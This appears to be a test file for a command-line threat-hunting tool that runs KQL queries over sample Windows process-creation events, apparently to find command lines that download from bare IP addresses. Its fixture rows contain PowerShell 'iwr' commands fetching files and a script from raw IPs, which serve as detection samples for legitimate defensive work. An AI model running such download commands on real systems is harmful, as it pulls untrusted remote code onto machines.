import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../support/runCli.js';

function run(args: string[], cwd: string) {
  return runCli(args, { cwd });
}

function workdir(): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'kql-cli-'));
  const rows = [
    { TimeGenerated: '2024-05-01T11:00:00Z', EventID: 4688, Computer: 'WS02', Account: 'CONTOSO\\bob', Process: 'powershell.exe', CommandLine: 'powershell -c iwr 45.67.89.123 -o x' },
    { TimeGenerated: '2024-05-01T12:00:00Z', EventID: 4688, Computer: 'WS03', Account: 'CONTOSO\\carol', Process: 'powershell.exe', CommandLine: 'powershell -c iwr 45.67.89.123 -o x' },
    { TimeGenerated: '2024-05-01T13:00:00Z', EventID: 4688, Computer: 'WS05', Account: 'CONTOSO\\erin', Process: 'cmd.exe', CommandLine: 'iwr http://45.67.89.124/p.ps1' },
  ];
  writeFileSync(path.join(dir, 'events.jsonl'), rows.map((r) => JSON.stringify(r)).join('\n') + '\n');
  writeFileSync(path.join(dir, 'typo.kql'), 'SecurityEvent\n| where EventID == 4688\n| where CommandLin has "x"\n');
  writeFileSync(path.join(dir, 'count.kql'), 'SecurityEvent | where TimeGenerated > ago(1d) | count\n');
  return dir;
}

describe('cmdline-ip-hunter query', () => {
  const dir = workdir();

  it('prints the response body the service would return for the seed query', async () => {
    const { code, stdout, stderr } = await run(['query', '--table', 'SecurityEvent=events.jsonl', '--seed'], dir);
    expect(stderr).toBe('');
    expect(code).toBe(0);
    const body = JSON.parse(stdout) as { tables: { name: string; columns: unknown[]; rows: unknown[][] }[] };
    expect(body.tables[0]!.name).toBe('PrimaryResult');
    expect(body.tables[0]!.rows).toEqual([
      [2, '45.67.89.123', 'powershell.exe', 'powershell -c iwr 45.67.89.123 -o x', '2024-05-01T11:00:00Z', '2024-05-01T12:00:00Z', '["WS02","WS03"]', '["CONTOSO\\\\bob","CONTOSO\\\\carol"]'],
    ]);
  });

  it('uses --now for now() and ago()', async () => {
    const late = await run(['query', '--table', 'SecurityEvent=events.jsonl', '--query-file', 'count.kql', '--now', '2024-05-01T12:30:00Z'], dir);
    expect(JSON.parse(late.stdout).tables[0].rows).toEqual([[3]]);
    const later = await run(['query', '--table', 'SecurityEvent=events.jsonl', '--query-file', 'count.kql', '--now', '2024-05-03T00:00:00Z'], dir);
    expect(JSON.parse(later.stdout).tables[0].rows).toEqual([[0]]);
  });

  it('prints a query error with its position and exits 1', async () => {
    const { code, stdout, stderr } = await run(['query', '--table', 'SecurityEvent=events.jsonl', '--query-file', 'typo.kql'], dir);
    expect(code).toBe(1);
    expect(stdout).toBe('');
    expect(stderr).toContain("KS142 The name 'CommandLin' does not refer to any known column");
    expect(stderr).toContain('line 3, column 9');
  });

  it('rejects bad arguments and bad rows with a message naming them', async () => {
    expect((await run(['query', '--table', 'SecurityEvent=events.jsonl'], dir)).stderr).toContain('--query-file');
    writeFileSync(path.join(dir, 'bad.jsonl'), '{"EventID": 1}\n{"Nope": 2}\n');
    const bad = await run(['query', '--table', 'SecurityEvent=bad.jsonl', '--seed'], dir);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('row 2: "Nope" is not a column of this table');
  });
});
